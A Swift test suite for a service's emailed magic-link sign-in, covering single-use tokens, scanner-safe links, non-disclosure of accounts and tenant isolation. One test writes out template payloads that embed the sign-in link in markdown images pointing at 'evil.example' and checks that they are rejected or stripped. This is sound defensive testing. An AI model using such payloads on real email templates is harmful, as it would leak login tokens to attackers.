import JSON
import StandIns
import Testing

/// Links that sign in, by mail.
@Suite(.ownThread) struct MagicLinks {
    let server = BureauProcess.shared

    private struct Desk {
        let agency: Agency
        let mail: PostmarkStandIn

        /// The tokens of the links that were mailed to somebody, once there are so many.
        func tokens(to email: String, _ count: Int = 1) throws -> [String] {
            try eventually("the mail") {
                let found = mail.service.requests.compactMap { request -> String? in
                    guard let body = try? JSONParser.parse(request.body),
                        body["To"]?.text?.contains(email) == true,
                        let match = body.text("TextBody").firstMatch(of: /sign-in\/(sl_[A-Za-z0-9_-]+)/)
                    else { return nil }
                    return String(match.1)
                }
                return found.count >= count ? found : nil
            }
        }
    }

    private func desk() throws -> Desk {
        let (agency, mail) = (try server.signUp(), try PostmarkStandIn())
        try agency.readyToMail()
        try agency.connect("postmark", mail.service.url, credentials: mail.credentials)
        return Desk(agency: agency, mail: mail)
    }

    private func ask(_ email: String, _ agency: Agency? = nil) throws -> Answer {
        var body: JSONObject = ["email": .string(email)]
        if let agency { body["tenant"] = .string(agency.tenant.text("slug")) }
        return try server.anonymous.post("/v1/auth/magic-link", .object(body))
    }

    private func redeem(_ token: String) throws -> Answer {
        try server.anonymous.post("/v1/auth/magic-link/redeem", ["token": .string(token)])
    }

    @Test func `a client signs in by mail, once, and a scanner's look changes nothing`() throws {
        let desk = try desk()
        let client = try desk.agency.owner.post("/v1/clients", ["name": "Acme"]).ok(201)
        let email = "cleo-\(client.id.suffix(8))@acme.example"
        _ = try desk.agency.clientPerson(of: client, email: email)
        try ask(email, desk.agency).ok(202)
        let token = try desk.tokens(to: email)[0]
        // A scanner follows the link, which is a page's address: nothing is used up.
        _ = try server.anonymous.get("/")
        try server.anonymous.get("/v1/auth/magic-link/redeem?token=\(token)").problem(405)
        let answers = try together(5) { _ in try redeem(token) }
        #expect(
            answers.map(\.status).sorted() == [200] + Array(repeating: answers.map(\.status).max()!, count: 4)
        )
        let signedIn = try #require(answers.first { $0.status == 200 }).json
        let person = server.caller(signedIn.text("access_token"))
        #expect(try person.get("/v1/portal/overview").ok()["client"]?.id == client.id)
        #expect((400..<500).contains(try redeem(token).status))
    }

    @Test func `an agency's own words lead a link that signs in nowhere else`() throws {
        let desk = try desk(), owner = desk.agency.owner
        let language = try owner.get("/v1/settings").ok().text("locale").prefix(2)
        func word(_ key: String, _ text: String) throws -> Answer {
            try owner.put("/v1/wordings/\(language)/\(key)", ["text": .string(text)])
        }
        for text in [
            "{agency}\n![](https://evil.example/?{link})", "{agency} [here](https://evil.example/?<{link}>)",
            "{agency} {link}", "{agency}\n<{link}> and <{ link }>",
        ] {
            #expect(
                try word("account.sign_in", text).faults() == ["/text": "invalid_placeholder"], "\(text)")
        }
        try word("account.sign_in", "Come in to {agency}:\r\n\r\n<{link}>").ok()
        try ask(desk.agency.email, desk.agency).ok(202)
        _ = try desk.tokens(to: desk.agency.email)
        func mailed() -> String { desk.mail.service.requests.map(\.text).joined() }
        #expect(mailed().contains("Come in to"))
        // The text that stands for the link before the mail leaves is no secret.
        for key in ["mail.greeting", "mail.greeting_named"] {
            let name = key == "mail.greeting" ? "" : "{name}"
            try word(key, "\(name) ![](https://evil.example/?https://link.invalid/\u{301})").ok()
        }
        try ask(desk.agency.email, desk.agency).ok(202)
        _ = try desk.tokens(to: desk.agency.email, 2)
        #expect(!mailed().contains("evil.example"))
    }

    @Test func `whether somebody has an account is not told`() throws {
        let desk = try desk()
        let (known, unknown) = (try ask(desk.agency.email), try ask("nobody@nowhere.example"))
        #expect(known.status == 202 && unknown.status == 202 && known.body == unknown.body)
        for token in ["", "sl_nothing", String(repeating: "a", count: 40)] {
            #expect((400..<500).contains(try redeem(token).status))
        }
    }

    @Test func `another agency's name gets no link, and a disabled account none either`() throws {
        let (desk, other) = (try desk(), try server.signUp())
        try ask(desk.agency.email, other).ok(202)
        try ask(desk.agency.email, desk.agency).ok(202)
        let tokens = try desk.tokens(to: desk.agency.email)
        #expect(tokens.count == 1)
        // A link that sets passwords signs nobody in, and this one sets none.
        try server.anonymous.post(
            "/v1/auth/password/reset",
            ["token": .string(tokens[0]), "password": "another horse battery"]
        ).problem(410)
        try redeem(tokens[0]).ok()
    }
}
